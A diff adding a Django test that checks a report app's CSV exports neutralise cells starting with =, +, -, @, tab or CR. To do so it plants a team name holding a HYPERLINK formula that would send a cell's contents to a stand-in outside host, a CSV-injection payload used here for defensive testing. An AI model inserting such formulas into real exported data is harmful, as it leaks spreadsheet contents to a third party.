@@ -14,6 +14,7 @@ from django.urls import URLPattern, URLResolver, get_resolver, reverse
 
 from conftest import sign_in
 from goldenthread.people.factories import PersonFactory
+from goldenthread.reports import presenters
 from goldenthread.reports.selectors import MEASURES
 from goldenthread.reports.topics import TOPICS
 from goldenthread.sds.factories import UnmetNeedFactory
@@ -184,6 +185,31 @@ def test_csv_carries_the_same_suppression(client, commissioner, needs):
     section = page.split('id="unmet-need"')[1].split("</section>")[0]
     for cell in housing[1:]:
         assert f"<td>{cell}</td>" in section
+
+
+def test_no_csv_cell_starts_a_formula(client, commissioner, needs, team):
+    """Every cell of every CSV — the title, the filters' words, the column headings, the
+    labels, the counts, the notes — is neutralised when it starts with = + - @ tab or CR
+    (the outside probe: only the labels and counts were). A team's name is the admin's text."""
+    team.name = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
+    team.save()
+    sign_in(client, commissioner)
+    response = client.get(reverse("reports:bundle"), {"team": str(team.pk)})
+    with zipfile.ZipFile(io.BytesIO(response.content)) as bundle:
+        texts = [bundle.read(n).decode() for n in bundle.namelist() if n.endswith(".csv")]
+    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    rows = [["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "Housing", "12"]]
+    assert next(csv.reader(io.StringIO(presenters.csv_text(rows)))) == [
+        "'=1+1",
+        "'+1",
+        "'-1",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "Housing",
+        "12",
+    ]
 
 
 def test_bundle_has_every_table(client, commissioner, needs):
